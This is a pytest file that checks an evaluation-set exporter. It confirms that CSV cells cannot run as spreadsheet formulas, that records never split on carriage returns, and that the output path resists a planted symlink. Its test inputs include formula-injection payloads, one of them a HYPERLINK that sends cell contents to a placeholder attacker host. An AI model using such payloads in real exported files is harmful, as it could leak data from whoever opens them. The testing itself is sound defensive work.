"""Evalset exports are safe to open: CSV cells never run as spreadsheet formulas, records
never split on CR/LF, and ``-o`` never follows a planted link or leaves a stray file."""

from __future__ import annotations

import csv
import io
import os
import random
import subprocess
import sys
from pathlib import Path

import pytest

from watchkeeper.collector.evalset.formats import FORMULA_PREFIXES, write_evalset
from watchkeeper.collector.evalset.records import EvalRecord

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "line one\rline two",
    "line one\r\nline two\nthree",
    'quote " and, comma',
    "plain text",
    "",
]


def _record(text: str, index: int) -> EvalRecord:
    return EvalRecord(
        id=f"id-{index}",
        input=text,
        contexts=[text, "ctx"],
        output=text,
        corrected_answer=text,
        verdict="pass",
        scores={"helpfulness": 4},
        comments=[text],
        reviewers=["ana"],
        trace_id="t" * 32,
        span_id="s" * 16,
        model="m",
        service="svc",
        route=text,
        queues=["errors"],
        reasons=["error"],
        timestamp="2026-12-01T00:00:00Z",
        labelled_at="2026-12-01T00:00:00Z",
        labels=1,
        required_labels=1,
    )


def _neutral(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def test_csv_export_round_trips_through_the_csv_module_with_formulas_neutralised() -> None:
    """Each hostile text reads back from the CSV as itself, prefixed with ``'`` where a
    spreadsheet would run it as a formula; every record stays one record."""
    texts = [
        *HOSTILE,
        *("".join(random.Random(i).choices('=+-@\r\n\t",ab ', k=12)) for i in range(50)),
    ]
    out = io.BytesIO()
    assert write_evalset([_record(t, i) for i, t in enumerate(texts)], out, "csv") == len(texts)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
    assert len(rows) == len(texts)
    for text, row in zip(texts, rows, strict=True):
        assert row["input"] == _neutral(text)
        assert row["actual_output"] == _neutral(text)
        assert not any(cell.startswith(FORMULA_PREFIXES) for cell in row.values())


def test_every_csv_field_is_quoted() -> None:
    """Quoting every field keeps a bare CR from splitting the record in any reader."""
    out = io.BytesIO()
    write_evalset([_record("a\rb", 0)], out, "csv")
    body = out.getvalue().decode("utf-8")
    header, _, rest = body.partition("\r\n")
    assert all(name.startswith('"') and name.endswith('"') for name in header.split(","))
    assert '"a\rb"' in rest


WATCHKEEPER = [sys.executable, "-m", "watchkeeper.collector.cli"]


def _export(tmp_path: Path, output: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("WATCHKEEPER_")}
    return subprocess.run(
        [
            *WATCHKEEPER,
            "evalset",
            "export",
            "--data-dir",
            str(tmp_path / "data"),
            "-o",
            str(output),
        ],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


@pytest.mark.parametrize("case", ["directory", "missing-parent"])
def test_bad_output_paths_are_one_line_errors_without_leftovers(tmp_path: Path, case: str) -> None:
    """``-o`` naming a directory or a file in a missing directory exits 2 with one line
    and writes nothing."""
    output = tmp_path / "out" if case == "directory" else tmp_path / "nope" / "set.jsonl"
    if case == "directory":
        output.mkdir()
    result = _export(tmp_path, output)
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert "directory" in result.stderr
    assert not list(tmp_path.rglob("*.partial"))


def test_a_symlink_planted_at_the_partial_name_is_not_followed(tmp_path: Path) -> None:
    """The export writes a fresh file of its own beside the target, so a link planted where
    an earlier version wrote ``<output>.partial`` does not redirect it."""
    from watchkeeper.collector.evalset.command import open_output

    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    output = tmp_path / "set.jsonl"
    (tmp_path / "set.jsonl.partial").symlink_to(victim)
    with open_output(output) as handle:
        handle.write(b"{}\n")
    assert victim.read_text() == "keep me"
    assert output.read_bytes() == b"{}\n"
    assert not output.is_symlink()
